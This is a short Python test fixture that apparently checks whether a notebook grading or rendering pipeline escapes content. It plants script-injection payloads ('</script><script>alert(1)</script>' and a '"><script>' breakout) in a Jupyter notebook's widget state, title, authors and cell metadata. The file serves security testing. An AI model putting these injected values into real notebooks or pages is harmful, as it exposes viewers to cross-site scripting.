"""Hide scripts in the notebook's own metadata. Success: a page made of the graded notebook holds them."""

NBGRADER = True


def make(notebook, folder):
    script = "</script><script>alert(1)</script>"
    state = {"state": {"x": {"model_name": "HTMLModel", "state": {"value": script}}}, "version_major": 2, "version_minor": 0}
    notebook["metadata"] |= {"widgets": {"application/vnd.jupyter.widget-state+json": state}, "title": script, "authors": [{"name": script}]}
    for cell in notebook["cells"]:
        cell["metadata"] |= {"raw_mimetype": "text/html", "tags": [script, "\"><script>"], "slideshow": {"slide_type": script}}
    return notebook
